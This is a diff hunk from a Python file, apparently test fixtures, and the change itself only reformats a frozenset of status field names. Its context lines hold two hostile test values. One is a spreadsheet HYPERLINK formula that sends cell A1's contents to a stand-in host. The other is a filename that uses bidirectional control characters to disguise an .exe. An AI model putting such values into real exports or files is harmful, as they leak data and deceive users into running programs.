@@ -26,9 +26,7 @@ FORMULA = '=HYPERLINK("http://e.example/?"&A1,"x")'
 TURNED = "\u2067\u202b\u200f\u05d0\u05d1 \u202egnp.exe"
 
 # What nobody else has a say in: words of fixed sets, and moments.
-_OURS = frozenset(
-    ("schema_version", "status", "blocked_for", "blocks", "would_block", "state", "kind", "answer")
-)
+_OURS = frozenset(("schema_version", "status", "blocked_for", "blocks", "would_block", "state", "kind", "answer"))
 _MOMENT = re.compile(r"\d{4}-\d\d-\d\dT")
 _ENDS = ("succeeded", "succeeded", "succeeded", "dry-run", "refused", "failed", "killed", "running")
 _ERROR = {
